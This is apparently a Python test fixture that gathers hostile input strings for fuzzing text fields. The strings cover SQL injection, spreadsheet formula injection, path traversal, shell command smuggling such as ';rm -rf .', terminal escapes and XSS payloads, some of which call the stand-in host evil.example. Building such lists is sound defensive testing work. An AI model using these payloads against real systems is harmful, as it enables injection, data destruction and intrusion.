"""Strings that try to be something else than text, for every place where text goes; with those of
``tests.notices.hostile``, which are made for mail and chat."""

from __future__ import annotations

from tests.notices import hostile

_QUERY = [
    "' OR '1'='1",
    "'; DROP TABLE writes; --",
    '" OR ""="',
    "1) UNION SELECT payload FROM writes --",
    "a%' ESCAPE '!",
    "\\'; SELECT pg_sleep(10); --",
    "%",
    "_",
    "NULL",
    "$1",
    ":name",
    "?",
    "{}",
    "*) OR (CUSTOMERID LIKE *",
    "NAME = 'x' OR NAME LIKE '%'",
    "x</value><value>y",
    "x</field><field>NAME",
    "</filter></query><create><CUSTOMER/></create><query><filter>",
    "]]></function><function controlid='x'>",
    "&amp;lt;&#60;&x;",
    '"}],"filterGroups":[]}',
    '\\"}],"limit":200}',
    "a\\",
    "$where: 1",
    "deals/../contacts",
    "?after=1&limit=100",
    "#fragment",
    "1/associations/contacts",
]
_CELLS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("http://evil.example","//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\uff20A1",
    '","=1+1","',
    '"\r\n=1+1',
    "'=1+1",
    "x;=1+1",
    "x; =1+1;",
    'x;"=1+1',
    "x\t@SUM(A1:A9)\ty",
    "x\n=1+1\ny",
    "x;\uff1d1+1",
]
_FILES = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\x",
    "CON",
    "a/b",
    "a\x00.html",
    "~root",
    "$(touch /tmp/x)",
    "`id`",
    ";rm -rf .",
    "|cat",
    "-rf",
    "x" * 400,
    "..%2f..%2fetc",
    "\u2025/\u2025/etc",
]
_LINES = [
    "x\n2026-11-20T09:00:00Z [error    ] all is lost",
    "x\r[info] overwritten",
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x9b31mred",
    "x\u2028next\u2029paragraph",
    "x\x85next",
    "\u202egnp.exe",
    "%s %d %(name)s %n",
    "{0.__class__.__mro__}",
    "\x08\x08\x08\x08erased",
]
_MARKUP = [
    "<script>fetch('//evil.example')</script>",
    "</script><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "<!--<script>",
    "\\u003cscript>",
    "<svg><a xlink:href='javascript:alert(1)'>",
    "<math><mtext></form><form>",
    "<iframe srcdoc='<script>'>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<a href='data:text/html,x'>",
    "<!channel> <@U1> <#C1> <https://evil.example|x>",
    "<!subteam^S1>",
    "*b* _i_ ~s~ `c` ```x```",
    "[x](https://evil.example)",
]
HOSTILE = [*dict.fromkeys([*_QUERY, *_CELLS, *_FILES, *_LINES, *_MARKUP, *hostile.HOSTILE])]
assert len(HOSTILE) >= 380

ARRIVING = [text.encode("utf-8", "replace").decode().replace("\x00", "") for text in HOSTILE]
"""As they get past the readers of either system: neither lets half a character through, nor does XML a zero byte."""
